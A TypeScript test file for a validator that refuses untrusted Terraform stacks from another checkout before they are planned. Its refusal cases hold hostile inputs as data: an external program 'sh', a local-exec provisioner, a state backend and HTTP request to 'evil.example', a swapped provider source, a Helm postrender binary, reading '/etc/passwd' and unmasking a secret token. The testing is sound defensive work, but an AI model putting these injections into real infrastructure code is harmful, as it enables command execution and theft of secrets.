import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Attributes } from '../../../ops/review/plan-document';
import { foreignFaults, newVariables } from '../../../ops/terraform/foreign-stack';
import { put } from '../../sites/schema/change';
import type { Loose } from '../../support/site/edited-site';
import { siteOf } from '../../support/site/site-app';
import type { SiteChange } from '../../support/site/site-change';
import { Machine } from './machine';

/** A stack of the fixture site harbour as it is written, with the other stacks behind it. */
function stacksOf(name: string, change?: SiteChange): [Attributes, ...Attributes[]] {
  const documents = siteOf(change).stacks.map(({ name: stack, config }) => [stack, config] as const);
  const own = documents.find(([stack]) => stack === name)?.[1] ?? {};
  return [own as Attributes, ...documents.map(([, config]) => config as Attributes)];
}

const WIKI = {
  ...{ kind: 'oidc', name: 'Wiki', slug: 'wiki', accessTokenValidity: 'hours=1', scopes: ['OpenId'] },
  redirectUris: [{ matchingMode: 'strict', url: 'https://wiki.harbour.example/cb' }],
  ...{ clientId: 'wiki_id', clientSecret: 'wiki_secret', signingKey: 'authentik Self-signed Certificate' },
  access: { groups: ['HeadscaleUsers'] },
};

describe('what another checkout has synthesised', () => {
  const identity = stacksOf('identity');
  const platform = stacksOf('platform');

  test.each([['identity'], ['platform'], ['edge']])('is taken where it is the %s of this one', (stack) => {
    const trusted = stacksOf(stack);
    expect(foreignFaults(copyOf(trusted[0]), trusted)).toEqual([]);
    expect(newVariables(trusted[0], trusted[0])).toEqual([]);
  });

  test('is taken with another application, host, session and group; its new secrets are variables without a value', () => {
    const [branch] = stacksOf('identity', (site) => {
      put(site, 'identity.applications.Wiki', WIKI);
      for (const name of ['wiki_id', 'wiki_secret'])
        put(site, `secrets.${name}`, { opens: 'the wiki as a client', from: 'a random string, kept somewhere' });
      put(site, 'identity.hostRestriction.hosts.Notes', { host: 'notes', access: { groups: ['HeadscaleUsers'] } });
      put(site, 'identity.groups.Readers', { name: 'Readers' });
      put(site, 'identity.signIn.logins.PasswordLogin.sessionDuration', 'weeks=2');
    });
    expect(foreignFaults(branch, identity)).toEqual([]);
    expect(newVariables(branch, identity[0])).toEqual(['wiki_id', 'wiki_secret']);
  });

  test.each<[what: string, place: string, stack: [Attributes, ...Attributes[]], change: (document: Loose) => void]>([
    [
      'a program as a data source',
      'data.external',
      identity,
      (one) => add(one, 'data', 'external', { program: ['sh'] }),
    ],
    ['a request', 'data.http', identity, (one) => add(one, 'data', 'http', { url: 'https://evil.example' })],
    [
      'a state of another stack',
      'data.terraform_remote_state',
      identity,
      (one) => add(one, 'data', 'terraform_remote_state', {}),
    ],
    [
      'an object that reads any object',
      'data.kubernetes_resource',
      platform,
      (one) => add(one, 'data', 'kubernetes_resource', {}),
    ],
    [
      'an object of any kind',
      'resource.kubernetes_manifest',
      platform,
      (one) => add(one, 'resource', 'kubernetes_manifest', {}),
    ],
    [
      'a resource that runs programs',
      'resource.terraform_data',
      identity,
      (one) => add(one, 'resource', 'terraform_data', {}),
    ],
    ['a module', 'module', identity, (one) => Object.assign(one, { module: { x: { source: './x' } } })],
    ['locals', 'locals', identity, (one) => Object.assign(one, { locals: { x: 1 } })],
    [
      'a provisioner',
      'resource.authentik_group.X.provisioner',
      identity,
      (one) => add(one, 'resource', 'authentik_group', { provisioner: [{ 'local-exec': { command: 'sh' } }] }),
    ],
    [
      'another server',
      'provider',
      identity,
      (one) => Object.assign(one.provider?.authentik?.[0] ?? {}, { url: 'https://evil.example' }),
    ],
    [
      'another source of a provider',
      'terraform',
      identity,
      (one) => Object.assign(one.terraform?.required_providers?.authentik ?? {}, { source: 'evil/authentik' }),
    ],
    [
      'another backend',
      'terraform',
      identity,
      (one) => Object.assign(one.terraform ?? {}, { backend: { http: { address: 'https://evil.example' } } }),
    ],
    [
      'a file of the machine',
      'resource.authentik_group.X.name',
      identity,
      (one) => add(one, 'resource', 'authentik_group', { name: '${file("/etc/passwd")}' }),
    ],
    [
      'a secret without its mark',
      'output.x.value',
      identity,
      (one) => Object.assign(one, { output: { x: { value: '${nonsensitive(var.authentik_token)}' } } }),
    ],
    [
      'a directive',
      'resource.authentik_group.X.name',
      identity,
      (one) => add(one, 'resource', 'authentik_group', { name: '%{ if true }yes' }),
    ],
    [
      'an expression that does not end',
      'resource.authentik_group.X.name',
      identity,
      (one) => add(one, 'resource', 'authentik_group', { name: '${"}' }),
    ],
    [
      'an expression in a key',
      'resource.authentik_group.X.attributes.${file("x")}',
      identity,
      (one) => add(one, 'resource', 'authentik_group', { attributes: { '${file("x")}': 1 } }),
    ],
    [
      'a variable in the clear',
      'variable.x',
      identity,
      (one) => Object.assign(one.variable ?? {}, { x: { type: 'string' } }),
    ],
    [
      'a secret that loses its mark',
      'variable.authentik_token',
      identity,
      (one) => Object.assign(one.variable?.authentik_token ?? {}, { sensitive: false }),
    ],
    [
      'a chart of another place',
      'resource.helm_release.Release: is a chart of another place',
      platform,
      (one) =>
        Object.assign(Object.values(one.resource?.helm_release ?? {})[0] ?? {}, {
          repository: 'https://evil.example/${var.x}',
        }),
    ],
    [
      'a program behind Helm',
      'resource.helm_release.Release.postrender',
      platform,
      (one) =>
        Object.assign(Object.values(one.resource?.helm_release ?? {})[0] ?? {}, { postrender: { binary_path: 'sh' } }),
    ],
  ])('is refused with %s', (_, place, trusted, change) => {
    const branch = copyOf(trusted[0]);
    change(branch as unknown as Loose);
    expect(foreignFaults(branch, trusted)).toEqual([expect.stringContaining(place)]);
  });

  test('keeps a text that looks like an expression and is none', () => {
    const branch = copyOf(identity[0]) as unknown as Loose;
    add(branch, 'resource', 'authentik_group', { name: '$${file("x")} %%{ if }' });
    expect(foreignFaults(branch, identity)).toEqual([]);
  });
});

/** It is the copy as it is read from a file. */
function copyOf(document: Attributes): Attributes {
  return JSON.parse(JSON.stringify(document)) as Attributes;
}

function add(document: Loose, kind: string, type: string, block: object): void {
  const all = document as unknown as Record<string, Record<string, object>>;
  all[kind] = { ...all[kind], [type]: { ...all[kind]?.[type], X: block } };
}

describe('diff --synthesised', () => {
  let machine: Machine;

  beforeEach(() => {
    machine = new Machine();
  });

  afterEach(() => machine.remove());

  /** Writes a stack as the other checkout has it, and plans it. */
  async function diff(document: object): Promise<number> {
    const file = join(machine.folder, 'other', 'stacks', 'identity', 'cdk.tf.json');
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, JSON.stringify(document));
    return machine.run('diff', 'identity', '--synthesised', join(machine.folder, 'other'));
  }
  const readPlanned = () => readFileSync(join(machine.directory, 'identity', 'cdk.tf.json'), 'utf8');
  const terraform = { backend: { s3: {} } };

  test('plans the other stack, with no secret for a variable that is new', async () => {
    expect(await diff({ terraform, variable: { wiki_secret: { sensitive: true } } })).toBe(0);
    expect(readPlanned()).toContain('wiki_secret');
    expect(machine.cdktfCalls[0]).toEqual(
      expect.arrayContaining([expect.stringMatching(/^--var=wiki_secret=a secret /)]),
    );
    expect(machine.terraform('plan')).toBeDefined();
  });

  test('refuses one that needs more trust before anything runs, and keeps its own', async () => {
    expect(await diff({ terraform, data: { external: { X: { program: ['sh'] } } } })).toBe(3);
    expect(machine.terminal.notes.join('\n')).toContain('data.external: is a type that no trusted stack has');
    expect(machine.calls).toEqual([]);
    expect(readPlanned()).not.toContain('external');
  });

  test('ends with 2 where the other checkout has no such stack', async () => {
    expect(await machine.run('diff', 'identity', '--synthesised', `${machine.folder}/none`)).toBe(2);
  });
});
